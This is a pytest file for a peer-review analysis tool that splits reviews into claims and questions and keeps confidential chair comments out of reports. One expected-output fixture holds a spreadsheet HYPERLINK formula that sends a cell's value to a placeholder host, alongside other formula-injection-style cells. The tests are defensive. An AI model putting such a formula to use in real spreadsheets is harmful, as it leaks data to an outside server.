"""Reviews and claims as they come: each given file, and one of the same kind, yields its points and nothing else."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from peerlens import verify
from peerlens.agents.embedded.decompose.review import decompose
from peerlens.reviews import read_reviews
from peerlens.schema import Decomposition, Review
from peerlens.settings import RetrieverName, Settings
from tests.cases.given import given, given_reviews

Expected = Sequence[tuple[str, Sequence[str], Sequence[str]]]

GIVEN: dict[str, Expected] = {
    "b27_openreview_v1_thread.json": [
        (
            "r1",
            [
                "The paper uses 412 images.",
                "The paper lacks any ablation.",
                "The paper does not give the number of parameters.",
            ],
            [],
        )
    ],
    "b28_openreview_v2_thread.json": [
        (
            "r1",
            [
                "The paper presents a count model for ponds.",
                "Only 412 images are needed.",
                "No ablation is given.",
                "The method beats all baselines only on Alder.",
                "The limitations are stated in Section 5.",
            ],
            ["Why five seeds?"],
        ),
        ("r2", [], []),
    ],
    "b32_html_entities.md": [
        (
            "r1",
            [
                "The gap is small (p < 0.05), but MAE > 2.5 & rising.",
                'The authors\' claim "few labels" holds.',
                "R&amp;D budget is unclear.",
            ],
            [],
        )
    ],
    "b33_cp1252_review.txt": [
        (
            "r1",
            [
                "The authors’ claim “few labels” is fair — 412 images … cost €20 each.",
                "Naïve baseline is missing.",
            ],
            [],
        )
    ],
    "b35_easychair_like.csv": [
        (
            "1",
            [
                "The paper uses 412 images.",
                "The paper gives no ablation.",
                "The paper gives no code.",
                'The paper quotes "few labels" twice.',
            ],
            [],
        ),
        ("2", ["=2.7 is the error."], ["@all please check."]),
        ("3", [], []),
    ],
    "b37_numbered_lists_crossrefs.md": [
        (
            "r1",
            [
                "No ablation is reported.",
                "Tile shuffling is never removed.",
                "The dataset is small (412 images).",
                "The dataset is small (412 images), for the test split.",
                "The significance test is missing.",
            ],
            [
                "Why 40 epochs?",
                "Is the rate 3e-4 or 3e-3?",
                "Release code",
                "Fix typos in Sec. 4.2.1, Fig. 3(b), Eq. (7) and Tab. II.",
            ],
        )
    ],
    "b39_negation_hedge.md": [
        (
            "r1",
            [
                "The paper does not include night images.",
                "It is not the case that DensityNet is better than CootCount.",
                "I doubt that the authors ran five seeds.",
                "Code is not released.",
                "Labels are not released.",
                "The method fails to beat PointReg.",
                "Hardly any detail is given about the ponds.",
                "Unless I missed it, no significance test is reported.",
            ],
            ["Could the authors report the runtime?", "Please add a map."],
        )
    ],
    "b43_latex_markdown.md": [
        (
            "r1",
            [
                r"The bound in Eq. 1 is $O(n \log n)$, not $\mathcal{O}(n^2)$.",
                "A budget of $10 and $20 is fine, but 5% of tiles and file_name are odd.",
                r"The authors [nobody2020] do not report $\mathrm{MAE} < 2.5$ for $n \neq 412$.",
                r"The runtime is $38\,\mathrm{ms}$ per tile.",
            ],
            [],
        )
    ],
    "b45_injection_in_review.md": [("r1", ["The paper uses 412 images.", "No ablation is reported."], [])],
    "b48_formula_cells.jsonl": [
        ("f1", ['=HYPERLINK("http://example.invalid/?x="&A1,"open") is how the table was made.'], []),
        ("f2", ["The paper gives no ablation."], []),
        ("f3", [], []),
        ("f4", [], ["@authors please report the seed."]),
        ("f5", ["=1+1 after a tab."], []),
        ("f6", ["-0.3 is the change in error."], []),
    ],
}

OWN: list[tuple[str, str, Expected]] = [
    (
        "thread.json",
        json.dumps(
            [
                {"id": "s", "forum": "s", "invitation": "V/-/Submission", "content": {"title": "Herons"}},
                {
                    "id": "a",
                    "forum": "s",
                    "replyto": "s",
                    "invitation": "V/Paper3/-/Review",
                    "content": {"review": "It lacks a map.", "rating": "4: reject", "confidence": "5: certain"},
                },
                {
                    "id": "b",
                    "forum": "s",
                    "replyto": "a",
                    "invitation": "V/Paper3/-/Official_Comment",
                    "signatures": ["V/Paper3/Authors"],
                    "content": {"comment": "The map is in Figure 2."},
                },
            ]
        ),
        [("a", ["The paper lacks a map."], [])],
    ),
    (
        "entities.md",
        "The rate is &ge; 3 &amp; falls (p &lt; 0.01).<br>Code: `a &lt; b`.",
        [("r1", ["The rate is ≥ 3 & falls (p < 0.01)."], [])],
    ),
    (
        "sheet.csv",
        "\ufeffid\tpaper\treview\tconfidential comments to the chairs\r\n"
        '7\t3\t"No map is given.\r\n\r\nNo ""nest"" is shown."\tDo not forward.\r\n',
        [("7", ["No map is given.", 'No "nest" is shown.'], [])],
    ),
    (
        "points.md",
        "## Weaknesses\n1) No map is given.\n2. Same as point 1, but for the nests.\n"
        "\n## Questions\nQ1. Why 2 towers?\n",
        [("r1", ["No map is given.", "No map is given, for the nests."], ["Why 2 towers?"])],
    ),
    (
        "hedges.md",
        "The paper does not name the lakes. If the tower had been higher, the error would be lower. "
        "Neither maps nor code are given. Would the authors add a map?",
        [
            (
                "r1",
                ["The paper does not name the lakes.", "Maps are not given.", "Code is not given."],
                ["Would the authors add a map?"],
            )
        ],
    ),
    (
        "markup.md",
        "The cost in Table~\\ref{tab:cost} is \\$30, not \\$40.\n\n```\nassert lakes == 3  # no map\n```\n"
        "\\textbf{Weakness:} \\emph{no} map is given.\n",
        [("r1", ["The cost in Table cost is $30, not $40.", "No map is given."], [])],
    ),
    (
        "cells.jsonl",
        '{"id": "a", "review": "+0.4 is the gain in error."}\n{"id": "b", "review": "@chairs please add a map."}\n',
        [("a", ["+0.4 is the gain in error."], []), ("b", [], ["@chairs please add a map."])],
    ),
]


def points(reviews: Sequence[Review]) -> list[tuple[str, list[str], list[str]]]:
    taken: list[tuple[Review, Decomposition]] = [(review, decompose(review)) for review in reviews]
    for review, parts in taken:
        for point in (*parts.claims, *parts.asks):
            assert review.text[point.start : point.end] == point.quote
    return [(r.id, [one.text for one in d.claims], [one.text for one in d.asks]) for r, d in taken]


@pytest.mark.parametrize("name", sorted(GIVEN))
def test_a_given_review_yields_its_points(name: str) -> None:
    assert points(given_reviews(name)) == [tuple(map(list_or_text, row)) for row in GIVEN[name]]


@pytest.mark.parametrize(("name", "text", "expected"), OWN, ids=[name for name, _, _ in OWN])
def test_a_review_of_the_same_kind_yields_its_points(name: str, text: str, expected: Expected) -> None:
    assert points(read_reviews(text.encode("utf-8"), name=name)) == [tuple(map(list_or_text, row)) for row in expected]


def list_or_text(value: str | Sequence[str]) -> str | list[str]:
    return value if isinstance(value, str) else list(value)


def test_every_given_form_states_the_one_point_and_an_unknown_form_as_well() -> None:
    for _, claims, asks in points(given_reviews("b29_venue_fields.jsonl")):
        assert "The paper has no night images." in claims
        assert asks == []
    own = {"content": {"things_that_worry_me": {"value": "No map is given."}, "score": {"value": 3}}}
    assert points(read_reviews(json.dumps(own).encode(), name="own.json")) == [("r1", ["No map is given."], [])]


def test_the_given_short_reviews_are_nine_rows_without_a_claim() -> None:
    rows = points(given_reviews("b40_very_short.jsonl"))
    assert [row[0] for row in rows] == [f"s{number}" for number in range(1, 10)]
    assert all(claims == [] and asks == [] for _, claims, asks in rows)


@pytest.mark.parametrize("text", ["ok", "\u2026", "-", "None.", "N/A", "👎👎", "Nice work!", "see above"])
def test_a_short_review_of_ones_own_has_no_claim(text: str) -> None:
    assert points(read_reviews(json.dumps({"review": text}).encode(), name="a.json")) == [("r1", [], [])]


def test_numbers_and_references_of_the_given_list_are_kept() -> None:
    (review,) = given_reviews("b37_numbered_lists_crossrefs.md")
    parts = decompose(review)
    assert [claim.source.ref for claim in parts.claims] == ["W1", "W1.1", "W2", "3", "iv"]
    assert [ask.source.ref for ask in parts.asks][:2] == ["Q1", "Q2"]
    assert (parts.claims[2].depends_on, parts.claims[3].depends_on) == ("r1.c1", "r1.c3")


def test_every_line_of_the_given_batches_is_accounted_for() -> None:
    rows = given_reviews("b50_batch_duplicate_ids.jsonl")
    assert len(rows) == 8
    assert len({row.id.casefold() for row in rows}) == 8
    assert not any(set(row.id) & set("/\\.") for row in rows)
    broken = given_reviews("b50b_batch_broken_lines.jsonl")
    assert [row.id for row in broken] == ["A", "C", "D", "E"]
    assert "line 3, 4 of b50b" in broken[0].warnings[0].message
    assert broken[2].text == "a\n\nlist"  # a list of texts is read as its texts


def test_rows_with_clashing_ids_each_keep_their_own_text() -> None:
    ids = ["x", "X", "x", "", "a/b", "..", "CON", "x "]
    lines = "\n".join(json.dumps({"review_id": one, "review": f"Lake {n} is missing."}) for n, one in enumerate(ids))
    rows = read_reviews(lines.encode(), name="own.jsonl")
    assert [row.text for row in rows] == [f"Lake {n} is missing." for n in range(len(ids))]
    assert len({row.id.casefold() for row in rows}) == len(ids)


@pytest.mark.parametrize(
    "secret", ["I know one of the authors. Do not forward.", "empty on purpose", "PC A", "PC B", "PC C"]
)
def test_confidential_cells_of_the_given_sheet_reach_no_report(tmp_path: Path, secret: str) -> None:
    settings = Settings(home=tmp_path / "home", retriever=RetrieverName.BM25)
    report = verify(given("b00_manuscript_plain.md"), given("b35_easychair_like.csv"), settings=settings)
    assert secret not in report.model_dump_json()
    assert not any(secret.encode() in path.read_bytes() for path in (tmp_path / "home").rglob("*") if path.is_file())


@pytest.mark.parametrize("count", [1, 2, 120])
def test_the_given_ready_made_claims_keep_their_number_and_order(tmp_path: Path, count: int) -> None:
    lines = given("b51_many_claims_120.jsonl").read_text("utf-8").splitlines()[:count]
    (tmp_path / "claims.jsonl").write_text("\n".join(lines) + "\n")
    settings = Settings(home=tmp_path / "home", retriever=RetrieverName.BM25)
    report = verify(given("b00_manuscript_plain.md"), tmp_path / "claims.jsonl", settings=settings)
    assert report.failures == ()
    assert [finding.claim_id for finding in report.findings] == [json.loads(line)["claim_id"] for line in lines]
    assert [finding.label.value for finding in report.findings] == [json.loads(line)["expect"] for line in lines]
